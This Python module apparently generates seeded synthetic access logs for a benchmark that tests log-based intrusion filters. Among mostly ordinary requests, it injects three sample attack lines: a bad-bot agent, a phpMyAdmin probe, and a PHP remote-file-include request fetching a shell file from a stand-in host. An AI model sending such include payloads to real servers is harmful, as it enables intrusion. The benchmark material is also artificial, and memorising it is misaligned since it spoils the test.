"""Access logs for the benchmark: combined format, the same lines for the same seed. Knows what
ordinary requests and a few well-known attacks look like; must not know who reads them."""

import random
import time

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "check_http/v2.3.3 (monitoring-plugins 2.3.3)",
    "okhttp/4.12.0",
    "-",
]
PAGES = ["", "index.html", "products", "products/{n}", "cart", "checkout", "search?q={w}&page={d}",
         "api/v1/orders/{n}", "api/v1/customers?limit=50&offset={n}", "assets/app.{n}.js",
         "assets/style.{n}.css", "images/{w}-{n}.webp", "fonts/inter.woff2", "login", "account/orders",
         "erp/invoice.do?number={n}&year=2026", "blog/{w}-and-{w}", "feed.xml", "favicon.ico",
         "static/js/vendor.{n}.js?v={d}", "docs/{w}/{w}.html", "download/{w}-{n}.pdf"]
WORDS = ["invoice", "summer", "garden", "order", "report", "steel", "lamp", "travel", "music", "winter",
         "chair", "module", "coffee", "silver", "paper", "bicycle"]
STATUSES = [200] * 84 + [304] * 8 + [302] * 3 + [404] * 3 + [301, 500]

# What the three filters of the benchmark look for: apache-badbots, nginx-botsearch, php-url-fopen.
ATTACKS = {
    "apache-badbots": ("GET /guestbook.html", 200, "EmailSiphon"),
    "nginx-botsearch": ("GET /phpMyAdmin/scripts/setup.php", 404, "Mozilla/5.0"),
    "php-url-fopen": ("GET /index.php?page=http://203.0.113.9/shell.txt", 200, "Mozilla/5.0"),
}


def stamp(at):
    """`at` (seconds since the epoch) as access logs write it."""
    return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(at))


def attack(kind, address, at):
    """One line that the filter `kind` takes for an offence of `address`."""
    request, status, agent = ATTACKS[kind]
    return f'{address} - - [{stamp(at)}] "{request} HTTP/1.1" {status} 162 "-" "{agent}"'


def attackers(kind, count=80):
    """The addresses that attack in `ordinary`, never those of ordinary visitors."""
    third = list(ATTACKS).index(kind) + 1
    return [f"198.18.{third}.{last}" for last in range(1, count + 1)]


def ordinary(lines, seed, until, hits=0.01):
    """Yields `lines` lines of the half hour before `until`, about `hits` of them attacks."""
    draw = random.Random(seed)
    guilty = {kind: attackers(kind) for kind in ATTACKS}
    kinds = list(ATTACKS)
    start = until - 1800
    for number in range(lines):
        at = start + 1800 * number // lines
        if draw.random() < hits:
            kind = draw.choice(kinds)
            yield attack(kind, draw.choice(guilty[kind]), at)
            continue
        address = f"10.{draw.randrange(32)}.{draw.randrange(256)}.{draw.randrange(1, 255)}"
        page = draw.choice(PAGES)
        while "{" in page:
            page = page.replace("{n}", str(draw.randrange(1, 99999)), 1)
            page = page.replace("{w}", draw.choice(WORDS), 1)
            page = page.replace("{d}", str(draw.randrange(1, 20)), 1)
        method = "POST" if draw.random() < 0.06 else "GET"
        referer = "-" if draw.random() < 0.4 else f"https://www.example.org/{draw.choice(WORDS)}"
        size = draw.randrange(150, 60000)
        yield (f'{address} - - [{stamp(at)}] "{method} /{page} HTTP/{draw.choice(("1.1", "2.0"))}" '
               f'{draw.choice(STATUSES)} {size} "{referer}" "{draw.choice(BROWSERS)}"')
